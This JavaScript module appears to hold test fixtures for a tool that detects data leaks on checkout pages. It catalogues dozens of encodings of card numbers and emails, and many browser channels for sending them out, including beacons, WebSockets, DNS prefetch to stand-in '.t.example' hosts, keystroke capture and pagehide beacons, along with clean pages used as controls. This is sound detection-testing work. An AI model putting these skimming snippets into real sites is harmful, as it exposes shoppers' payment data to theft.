// Pages that leak, each in one way: what their script does when the form is submitted. `card`,
// `email` and `name` are what was typed; `send` posts a text to another path of the shop.

/** Ways of writing a value. */
export const WRITTEN = {
  plain: "card",
  "in capitals": "email.toUpperCase()",
  "percent-encoded": "encodeURIComponent(email)",
  "percent-encoded twice": "encodeURIComponent(encodeURIComponent(email))",
  "each letter percent-encoded": "[...email].map((c) => '%' + c.charCodeAt(0).toString(16)).join('')",
  "as a form entry": "new URLSearchParams({ name }).toString()",
  base64: "btoa(card)",
  "base64, one byte before": "btoa('x' + card + ' more of it')",
  "base64, two bytes before": "btoa('xy' + card + ' more of it')",
  base64url: "btoa('???' + email).replaceAll('+', '-').replaceAll('/', '_').replaceAll('=', '')",
  "base64 with text before": "'id' + btoa(card)",
  "base64 twice": "btoa(btoa(card))",
  "base64, percent-encoded": "encodeURIComponent(btoa(JSON.stringify({ email, card })))",
  "base64 of UTF-16": "btoa([...email].map((c) => c + '\\0').join(''))",
  hex: "[...card].map((c) => c.charCodeAt(0).toString(16)).join('')",
  "hex in capitals, with colons": "[...email].map((c) => c.charCodeAt(0).toString(16).toUpperCase()).join(':')",
  "character codes": "[...name].map((c) => c.charCodeAt(0)).join()",
  "escapes of JSON": "JSON.stringify([...email].map((c) => '\\\\u00' + c.charCodeAt(0).toString(16)).join('')).slice(1, -1)",
  "JSON within JSON": "JSON.stringify({ a: JSON.stringify({ b: JSON.stringify({ email: 'x\"' + email }) }) })",
  "escapes of HTML": "[...email].map((c) => '&#' + c.charCodeAt(0) + ';').join('')",
  "escapes of HTML, hexadecimal": "[...card].map((c) => '&#x' + c.charCodeAt(0).toString(16) + ';').join('')",
  reversed: "[...email].reverse().join('')",
  "reversed, in base64": "btoa([...card].reverse().join(''))",
  "digits alone": "card.replace(/ /g, '')",
  "digits with dashes": "card.replace(/ /g, '-')",
  "letters with dots between": "[...name].join('.')",
  "split over two entries": "'a=' + card.slice(0, 10) + '&b=' + card.slice(10)",
  "split into fours": "card.split(' ').map((four, i) => 'cc' + i + '=' + four).join('&')",
  "split, the halves swapped": "'a=' + email.slice(9) + '&b=' + email.slice(0, 9)",
  "UTF-16": "[...email].map((c) => '\\0' + c).join('')",
  "UTF-32": "[...email].map((c) => '\\0\\0\\0' + c).join('')",
  "character codes with spaces": "[...email].map((c) => c.charCodeAt(0)).join(' ')",
  "bytes in JSON": "JSON.stringify({ body: new TextEncoder().encode(email) })",
  "a text spread into an object": "JSON.stringify({ ...email })",
  "an array of letters as form entries": "new URLSearchParams([...email].map((c, i) => ['c[' + i + ']', c])).toString()",
  "hex, each with 0x": "[...email].map((c) => '0x' + c.charCodeAt(0).toString(16)).join()",
  "an array of hex": "JSON.stringify([...email].map((c) => c.charCodeAt(0).toString(16)))",
  "escapes of HTML, without semicolons": "[...email].map((c) => '&#' + c.charCodeAt(0)).join('')",
  "escapes of a script": "[...email].map((c) => '%u00' + c.charCodeAt(0).toString(16)).join('')",
  "quoted-printable": "[...email].map((c) => '=' + c.charCodeAt(0).toString(16).toUpperCase()).join('')",
  "base64 reversed": "[...btoa(email)].reverse().join('')",
  "hex reversed": "[...card].map((c) => c.charCodeAt(0).toString(16)).reverse().join('')",
  "base64 split over two entries": "'a=' + btoa(email).slice(0, 17) + '&b=' + btoa(email).slice(17)",
  "hex split over two members": "JSON.stringify({ first_half: [...card].map((c) => c.charCodeAt(0).toString(16)).join('').slice(0, 17), second_half: [...card].map((c) => c.charCodeAt(0).toString(16)).join('').slice(17) })",
  "reversed and split": "'a=' + [...email].reverse().join('').slice(0, 11) + '&b=' + [...email].reverse().join('').slice(11)",
  "split into six": "card.replaceAll(' ', '').match(/.{1,3}/g).map((part, i) => 'cc-' + i + '=' + part).join('&')",
  "typed in two numbers": "JSON.stringify({ a: +card.replaceAll(' ', '').slice(0, 8), b: +('1' + card.replaceAll(' ', '').slice(8)) - 1e8 })",
  "a number": "JSON.stringify({ pan: +card.replaceAll(' ', '') })",
  "a form's parts of a letter each": "[...email].map((c, i) => `--B\\r\\nContent-Disposition: form-data; name=\"k${i}\"\\r\\n\\r\\n${c}\\r\\n`).join('')",
  "base64 with line breaks, in JSON": "JSON.stringify(btoa('x'.repeat(50) + email).replace(/.{76}/g, '$&\\r\\n'))",
};

const compress = (format) => `
  const stream = new Blob([JSON.stringify({ card, padding: "x".repeat(300) })]).stream()
    .pipeThrough(new CompressionStream("${format}"));
  const bytes = await new Response(stream).arrayBuffer();`;

/** Ways out of the page. */
export const DOORS = {
  "a request's address": "await fetch('/t?c=' + encodeURIComponent(card));",
  "a request's path": "await fetch('/t/' + btoa(card));",
  "an image's address": "new Image().src = '/t.gif?e=' + encodeURIComponent(email);",
  "a style's address": "document.body.style.background = 'url(/t.gif?e=' + btoa(email) + ')';",
  "a script's address": "document.head.append(Object.assign(document.createElement('script'), { src: '/t.js?' + btoa(card) }));",
  "a frame's address": "document.body.append(Object.assign(document.createElement('iframe'), { src: '/t?' + btoa(card) }));",
  "a frame's fragment": "document.body.append(Object.assign(document.createElement('iframe'), { src: '/t#' + btoa(card) }));",
  "a prefetch": "document.head.append(Object.assign(document.createElement('link'), { rel: 'prefetch', href: '/t?' + btoa(card) }));",
  "another site's address": "fetch(other + '/t?c=' + btoa(card), { mode: 'no-cors' });",
  "another site's frame": "document.body.append(Object.assign(document.createElement('iframe'), { src: other + '/t?' + btoa(card) }));",
  "a header": "await fetch('/t', { headers: { 'x-debug': btoa(email) } });",
  "the referrer": "history.replaceState(null, '', '?e=' + btoa(email)); await fetch('/t');",
  "a body of text": "await fetch('/t', { method: 'POST', body: card });",
  "a body of entries": "await fetch('/t', { method: 'POST', body: new URLSearchParams({ card }) });",
  "a multipart body": "const data = new FormData(); data.set('c', card); await fetch('/t', { method: 'POST', body: data });",
  "a file in a multipart body": "const data = new FormData(); data.set('f', new File([email], 'a.txt')); await fetch('/t', { method: 'POST', body: data });",
  "a file's name": "const data = new FormData(); data.set('f', new File(['x'], email)); await fetch('/t', { method: 'POST', body: data });",
  "a blob": "await fetch('/t', { method: 'POST', body: new Blob([email]) });",
  "bytes": "await fetch('/t', { method: 'POST', body: new TextEncoder().encode('x' + card) });",
  "a gzip body": `${compress("gzip")} await fetch('/t', { method: 'POST', body: bytes });`,
  "a deflate body": `${compress("deflate")} await fetch('/t', { method: 'POST', body: bytes });`,
  "a raw deflate body": `${compress("deflate-raw")} await fetch('/t', { method: 'POST', body: bytes });`,
  "a gzip blob": `${compress("gzip")} await fetch('/t', { method: 'POST', body: new Blob([bytes]) });`,
  "gzip in base64": `${compress("gzip")} send(btoa(String.fromCharCode(...new Uint8Array(bytes))));`,
  "a Request object": "await fetch(new Request('/t', { method: 'POST', body: card }));",
  "XMLHttpRequest": "const x = new XMLHttpRequest(); x.open('POST', '/t'); x.send(email);",
  "a keepalive request": "fetch('/t', { method: 'POST', body: card, keepalive: true });",
  "a beacon": "navigator.sendBeacon('/t', card);",
  "a beacon of a blob": "navigator.sendBeacon('/t', new Blob([JSON.stringify({ email })]));",
  "a WebSocket frame": "const s = new WebSocket(socket); await new Promise((open) => (s.onopen = open)); s.send(card);",
  "a binary WebSocket frame": "const s = new WebSocket(socket); await new Promise((open) => (s.onopen = open)); s.send(new TextEncoder().encode(card));",
  "a WebSocket's address": "new WebSocket(socket + '/?c=' + btoa(card));",
  "a WebSocket's protocol": "new WebSocket(socket, btoa(email).replaceAll('=', ''));",
  "an EventSource": "new EventSource('/t?c=' + btoa(card));",
  "a cookie": "document.cookie = 'c=' + encodeURIComponent(card);",
  "a cookie that is gone again": "document.cookie = 'e=' + email; document.cookie = 'e=; max-age=0';",
  "the cookie store": "await cookieStore.set('e', btoa(email));",
  "local storage": "localStorage.setItem('draft', JSON.stringify({ card }));",
  "local storage, as a property": "localStorage.draft = btoa(email);",
  "local storage that is gone again": "localStorage.draft = card; localStorage.clear();",
  "a key of local storage": "localStorage[email] = 1;",
  "session storage": "sessionStorage.draft = card;",
  "IndexedDB": `const db = await new Promise((done) => { const r = indexedDB.open('shop', 1);
    r.onupgradeneeded = () => r.result.createObjectStore('s', { autoIncrement: true }); r.onsuccess = () => done(r.result); });
    db.transaction('s', 'readwrite').objectStore('s').add({ draft: new Map([['c', card]]) });`,
  "a key of IndexedDB": `const db = await new Promise((done) => { const r = indexedDB.open('shop', 1);
    r.onupgradeneeded = () => r.result.createObjectStore('s'); r.onsuccess = () => done(r.result); });
    db.transaction('s', 'readwrite').objectStore('s').put(1, email);`,
  "the Cache": "await (await caches.open('c')).put('/x', new Response(JSON.stringify({ email })));",
  "an address in the Cache": "await (await caches.open('c')).put('/x?' + btoa(email), new Response('x'));",
  "the private file system": "const f = await (await navigator.storage.getDirectory()).getFileHandle('f', { create: true }); const w = await f.createWritable(); await w.write(card); await w.close();",
  "the console": "console.log('order', card);",
  "an object in the console": "console.debug({ deep: [{ draft: { form: { card } } }] });",
  "a table in the console": "console.table([{ email }]);",
  "an error that nobody catches": "setTimeout(() => { throw new Error('bad card ' + card); });",
  "a rejection that nobody catches": "void Promise.reject(new Error(email));",
  "history.state": "history.replaceState({ draft: { email } }, '');",
  "a state pushed and gone": "history.pushState({ card }, ''); history.replaceState(null, '');",
  "the address": "history.replaceState(null, '', '?card=' + encodeURIComponent(card));",
  "the fragment": "location.hash = btoa(email);",
  "the title": "document.title = 'Thanks, ' + name;",
  "window.name": "window.name = JSON.stringify({ card });",
  "postMessage to itself": "postMessage({ card }, '*');",
  "postMessage to a frame": "const f = document.querySelector('#same'); f.contentWindow.postMessage({ draft: email }, '*');",
  "postMessage to another site's frame": "await loaded; document.querySelector('#cross').contentWindow.postMessage({ draft: email }, '*');",
  "a message port": "const { port1 } = new MessageChannel(); port1.postMessage([card]);",
  "a worker's message": "new Worker('/worker.js').postMessage({ card });",
  "a worker's source": "new Worker(URL.createObjectURL(new Blob(['self.v = ' + JSON.stringify(card)])));",
  "a worker's address": "new Worker('/worker.js?' + btoa(card));",
  "a shared worker's message": "new SharedWorker('/shared.js').port.postMessage(email);",
  "a service worker's message": "await navigator.serviceWorker.register('/worker.js'); const { active } = await navigator.serviceWorker.ready; active.postMessage({ card });",
  "a service worker's address": "await navigator.serviceWorker.register('/worker.js?' + btoa(card));",
  "a broadcast": "new BroadcastChannel('shop').postMessage({ email });",
  "a WebRTC message": "const p = new RTCPeerConnection(); const c = p.createDataChannel('c'); try { c.send(card); } catch {}",
  "a WebRTC address": "new RTCPeerConnection({ iceServers: [{ urls: 'stun:' + btoa(email).replaceAll('=', '').toLowerCase() + '.t.example', username: card, credential: 'x' }].map(({ urls, ...rest }) => ({ urls: 'turn:127.0.0.1:9', ...rest })) });",
  "the clipboard": "navigator.clipboard.writeText(card).catch(() => {});",
  "a new window": "open('/t?' + btoa(card));",
  "a frame without a script": "const f = document.createElement('iframe'); document.body.append(f); f.contentWindow.fetch('/t?' + btoa(card));",
  "a stream": "fetch('/t', { method: 'POST', body: new Blob([card]).stream(), duplex: 'half' }).catch(() => {});",
  "a gzip stream": "fetch('/t', { method: 'POST', body: new Blob([card]).stream().pipeThrough(new CompressionStream('gzip')), duplex: 'half' }).catch(() => {});",
  "a Request of a stream": "fetch(new Request('/t', { method: 'POST', body: new Blob([card]).stream(), duplex: 'half' })).catch(() => {});",
  "a gzip file in a form": `${compress("gzip")} const f = document.createElement('form'); f.method = 'post'; f.enctype = 'multipart/form-data'; f.action = '/t'; f.target = 'same';
    document.querySelector('#same').name = 'same'; f.innerHTML = '<input type=file name=f>'; const d = new DataTransfer(); d.items.add(new File([bytes], 'a.gz')); f.firstChild.files = d.files; document.body.append(f); f.submit();`,
  "a form to a frame": "const f = document.createElement('form'); f.method = 'post'; f.action = '/t'; f.target = 'inner'; document.body.insertAdjacentHTML('beforeend', '<iframe name=inner></iframe>'); f.innerHTML = '<input name=c>'; f.firstChild.value = card; document.body.append(f); f.submit();",
  "a form to a new window": "const f = document.createElement('form'); f.method = 'post'; f.action = '/t'; f.target = '_blank'; f.innerHTML = '<input name=c>'; f.firstChild.value = card; document.body.append(f); f.submit();",
  "a form to another site's frame": "const f = document.createElement('form'); f.method = 'post'; f.action = other + '/t'; f.target = 'inner'; document.body.insertAdjacentHTML('beforeend', '<iframe name=inner></iframe>'); f.innerHTML = '<input name=c>'; f.firstChild.value = btoa(card); document.body.append(f); f.submit();",
  "a link to a new window": "const a = document.createElement('a'); a.href = '/t?' + btoa(card); a.target = '_blank'; document.body.append(a); a.click();",
  "a link's ping": "const a = document.createElement('a'); a.href = '#x'; a.ping = '/t?' + btoa(card); document.body.append(a); a.click();",
  "a mail to be written": "const a = document.createElement('a'); a.href = 'mailto:shop@example.com?body=' + encodeURIComponent(card); document.body.append(a); a.click();",
  "a name to look up": "document.head.append(Object.assign(document.createElement('link'), { rel: 'dns-prefetch', href: '//' + [...card].map((c) => c.charCodeAt(0).toString(16)).join('') + '.t.example' }));",
  "a name to connect to": "const l = document.createElement('link'); l.rel = 'preconnect'; document.head.append(l); l.href = 'https://' + email.replace('@', '.');",
  "an icon": "document.head.append(Object.assign(document.createElement('link'), { rel: 'icon', href: '/t.png?' + btoa(card) }));",
  "a speculation": "const s = document.createElement('script'); s.type = 'speculationrules'; s.text = JSON.stringify({ prefetch: [{ urls: ['/t?' + btoa(card)] }] }); document.head.append(s);",
  "a refresh": "document.head.insertAdjacentHTML('beforeend', '<meta http-equiv=refresh content=\"0;url=/t?' + btoa(card) + '\">'); await new Promise((done) => setTimeout(done, 300));",
  "a rule in a style sheet": "document.head.insertAdjacentHTML('beforeend', '<style>@import \"/t.css?' + btoa(card) + '\";</style>');",
  "XMLHttpRequest's user": "const x = new XMLHttpRequest(); x.open('POST', '/t', true, email, card); x.send();",
  "a keepalive request later": "fetchLater('/t', { method: 'POST', body: card });",
  "why a WebSocket is closed": "const s = new WebSocket(socket); await new Promise((open) => (s.onopen = open)); s.close(1000, card);",
  "a WebTransport datagram": "const t = new WebTransport('https://127.0.0.1:9'); t.ready.catch(() => {}); t.closed.catch(() => {}); t.datagrams.writable.getWriter().write(new TextEncoder().encode(card)).catch(() => {});",
  "a WebRTC channel's name": "new RTCPeerConnection().createDataChannel(card);",
  "a WebRTC candidate": "new RTCPeerConnection().addIceCandidate({ candidate: 'candidate:1 1 udp 1 ' + btoa(card) + ' 9 typ host', sdpMid: '0' }).catch(() => {});",
  "a WebRTC server that is set later": "new RTCPeerConnection().setConfiguration({ iceServers: [{ urls: 'stun:' + [...card].map((c) => c.charCodeAt(0).toString(16)).join('') + '.example' }] });",
  "a folder of the private file system": "await (await navigator.storage.getDirectory()).getDirectoryHandle(btoa(card), { create: true });",
  "the private file system, by a stream": "const f = await (await navigator.storage.getDirectory()).getFileHandle('f', { create: true }); const w = (await f.createWritable()).getWriter(); await w.write(card); await w.close();",
  "bytes in IndexedDB": `const db = await new Promise((done) => { const r = indexedDB.open('shop', 1);
    r.onupgradeneeded = () => r.result.createObjectStore('s', { autoIncrement: true }); r.onsuccess = () => done(r.result); });
    db.transaction('s', 'readwrite').objectStore('s').add({ draft: new Blob([new TextEncoder().encode(card).buffer]) });`,
  "a cursor of IndexedDB": `const db = await new Promise((done) => { const r = indexedDB.open('shop', 1);
    r.onupgradeneeded = () => r.result.createObjectStore('s', { autoIncrement: true }).add(1); r.onsuccess = () => done(r.result); });
    await new Promise((done) => { db.transaction('s', 'readwrite').objectStore('s').openCursor().onsuccess = ({ target }) => { target.result.update({ card }); done(); }; });`,
  "the password store": "navigator.credentials.store(new PasswordCredential({ id: email, password: card })).catch(() => {});",
  "a credential of another provider": "new FederatedCredential({ id: email, provider: 'https://id.example' });",
  "a broadcast channel's name": "new BroadcastChannel(email);",
  "what is dragged": "new DataTransfer().setData('text/plain', card);",
  "a protocol handler": "navigator.registerProtocolHandler('web+shop', '/t?%s&' + btoa(card));",
  "the state of a navigation": "navigation.updateCurrentEntry({ state: { draft: card } });",
  "an index of IndexedDB": "const r = indexedDB.open('shop', 1); r.onupgradeneeded = () => r.result.createObjectStore('s').createIndex(email, 'x'); await new Promise((done) => { r.onsuccess = done; });",
  "a Cache of many": "await (await caches.open('c')).addAll(['/t?' + btoa(card)]).catch(() => {});",
  "a payment request": "new PaymentRequest([{ supportedMethods: 'https://pay.example', data: { payer: email } }], { total: { label: 'Total', amount: { currency: 'EUR', value: '1' } } });",
  "a notification": "try { new Notification('Order', { body: name }); } catch {}",
  "a worker's name": "new Worker('/worker.js', { name: card });",
  "a script that a worker imports": "new Worker(URL.createObjectURL(new Blob(['importScripts(location.hash.slice(1))'])) + '#' + location.origin + '/t.js?' + btoa(card));",
  "a timer in the console": "console.time('a'); console.timeLog('a', { card });",
  "an error with members": "console.error(Object.assign(new Error('declined'), { order: { card } }));",
  "headers in the console": "console.log(new Headers({ 'x-card': card }));",
  "local storage, split over two keys": "localStorage.a = card.slice(0, 9); localStorage.b = card.slice(9);",
  "base64 split over two requests": "await fetch('/t?a=' + btoa(email).slice(0, 15)); await fetch('/t?b=' + btoa(email).slice(15));",
  "a frame's name": "document.body.append(Object.assign(document.createElement('iframe'), { name: card, src: other + '/frame' }));",
  "a field's name and a field's value": "send(JSON.stringify({ [email.slice(0, 9)]: email.slice(9) }));",
  "split over two requests": "await fetch('/t?a=' + card.slice(0, 10)); await fetch('/t?b=' + card.slice(10));",
  "a letter in each part of a multipart body": "const data = new FormData(); [...email].forEach((c, i) => data.append('k' + i, c)); await fetch('/t', { method: 'POST', body: data });",
  "the groups of a card among other members": "send(JSON.stringify(card.split(' ').map((four) => ({ four, at: Date.now() }))));",
  "a form under a base with a target": "document.head.append(Object.assign(document.createElement('base'), { target: '_blank' })); const f = document.createElement('form'); f.method = 'post'; f.action = '/t'; f.innerHTML = '<input name=c>'; f.firstChild.value = card; document.body.append(f); f.submit(); document.querySelector('base').remove();",
  "a deep object": "let deep = { card }; for (let i = 0; i < 40; i++) deep = { deep }; new BroadcastChannel('shop').postMessage(deep);",
  "the private file system, by a pipe": "const f = await (await navigator.storage.getDirectory()).getFileHandle('f', { create: true }); await new Blob([card]).stream().pipeTo(await f.createWritable());",
  "what the page copies": "const i = document.createElement('textarea'); i.value = card; document.body.append(i); i.select(); document.execCommand('copy');",
  "split over a cookie and the console": "document.cookie = 'a=' + email.slice(0, 10); console.log(email.slice(10));",
};

/** Leaks while the shopper types, and not at the submit. */
export const WHILE_TYPING = {
  "each change of an input": "form.addEventListener('input', ({ target }) => fetch('/t', { method: 'POST', body: target.value }));",
  "keys that are gathered": "let keys = ''; form.addEventListener('keydown', ({ key }) => (keys += key)); form.addEventListener('focusout', () => fetch('/t?k=' + btoa(keys)));",
  "an analytics tag": "form.addEventListener('change', () => { const d = {}; for (const i of form.querySelectorAll('input')) d[i.autocomplete || i.name] = i.value; navigator.sendBeacon('/t', JSON.stringify(d)); });",
  "a draft in storage": "form.addEventListener('input', ({ target }) => sessionStorage.setItem('draft-' + target.autocomplete, target.value));",
};

/** Leaks when the page is left by a native submit. */
export const ON_LEAVING = {
  "a beacon on pagehide": "addEventListener('pagehide', () => navigator.sendBeacon('/t', read('cc-number')));",
  "a beacon of a blob on pagehide": "addEventListener('pagehide', () => navigator.sendBeacon('/t', new Blob([read('cc-number')])));",
  "a keepalive request on visibilitychange": "document.addEventListener('visibilitychange', () => fetch('/t', { method: 'POST', keepalive: true, body: read('email') }));",
  "storage on beforeunload": "addEventListener('beforeunload', () => (localStorage.last = read('email')));",
  "a name taken back by the page": "form.addEventListener('submit', () => { const i = document.createElement('input'); i.type = 'hidden'; i.name = 'cart'; i.value = read('cc-number'); form.append(i); });",
};

/** What a good page does, and some that look like a leak and are none. */
export const CLEAN = {
  "nothing else": "",
  "the sealed line everywhere": `const line = new FormData(form).get('sealed'); console.log(line); localStorage.line = line;
    history.replaceState({ line }, '', '#' + btoa(line)); postMessage(line, '*'); document.cookie = 'line=' + line.slice(0, 3000);`,
  "an order in JSON": "send(JSON.stringify({ cart: '3 books', sealed: new FormData(form).get('sealed') }));",
  "what the policy passes": "document.cookie = 'cart=3+books'; console.log('country', read('country')); send('country=' + read('country'));",
  "the last four digits": "document.title = 'Card ending in ' + card.slice(-4); localStorage.last4 = card.slice(-4);",
  "numbers, hashes and times": `for (let i = 0; i < 40; i++) console.log(Date.now() + i, crypto.randomUUID(), Math.random());
    send(Array.from(crypto.getRandomValues(new Uint8Array(4000)), (b) => b.toString(16)).join(''));
    await fetch('/t', { method: 'POST', body: crypto.getRandomValues(new Uint8Array(20000)) });`,
  "a frame that is answered by the message's source": `const f = document.createElement("iframe");
    f.srcdoc = "<script>parent.postMessage('ready', '*')<" + "/script>";
    const source = new Promise((done) => addEventListener("message", (event) => done(event.source), { once: true }));
    document.body.append(f); if ((await source) !== f.contentWindow) throw form.remove();`,
  "a page that keeps an answer in the Cache": `const cache = await caches.open("c");
    await cache.put("/x", new Response("static")).catch(() => form.remove());
    const { length } = await (await cache.match("/x")).text(); if (length !== 6) form.remove();`,
  "an assertion that holds": "console.assert(true, card);",
  "an order that is sent when the page was quiet": "await new Promise((resolve) => setTimeout(resolve, 800));",
  "frames that are told nothing of it": "await loaded; for (const id of ['#same', '#cross']) document.querySelector(id).contentWindow.postMessage('resize', '*');",
  "the length of a field": "send(JSON.stringify({ length: card.length, valid: true, kind: 'card', name: 'cc-number' }));",
};

/**
 * The pages of an ordinary run; `EVERYTHING` takes all. For each piece of the kit that watches (each
 * listener of the browser's tools, each kind of hook, each look at what is kept, each way of reading
 * a body) one page that no other piece would catch, as far as there is one.
 */
export const SAMPLE = new Set([
  // What the browser's tools tell.
  ...["a request's address", "a header", "the referrer", "a body of entries", "another site's frame"],
  ...["a WebSocket frame", "a binary WebSocket frame", "a WebSocket's address", "a WebSocket's protocol"],
  ...["an error that nobody catches", "the fragment", "a frame's name", "a speculation"],
  // How a body is read.
  ...["a file in a multipart body", "a blob", "a raw deflate body", "a gzip blob", "gzip in base64"],
  ...["a stream", "a Request of a stream", "split over two requests", "a deep object"],
  // What is hooked in the page: a method, a class, a setter, a pipe, a copy.
  ...["a beacon of a blob", "local storage that is gone again", "a cookie that is gone again", "the title"],
  ...["a message port", "a worker's source", "a worker's name", "an object in the console", "a broadcast"],
  ...["the private file system, by a pipe", "what the page copies", "a frame without a script"],
  // What is looked at afterwards, and what leaves with the page.
  ...["IndexedDB", "the Cache", "a new window", "a form to a frame", "a service worker's message"],
  ...["keys that are gathered", "a draft in storage", "a beacon on pagehide", "storage on beforeunload"],
  ...["a name taken back by the page"],
  // What is no leak.
  ...["nothing else", "the sealed line everywhere", "numbers, hashes and times"],
  ...["a frame that is answered by the message's source", "an order that is sent when the page was quiet"],
]);
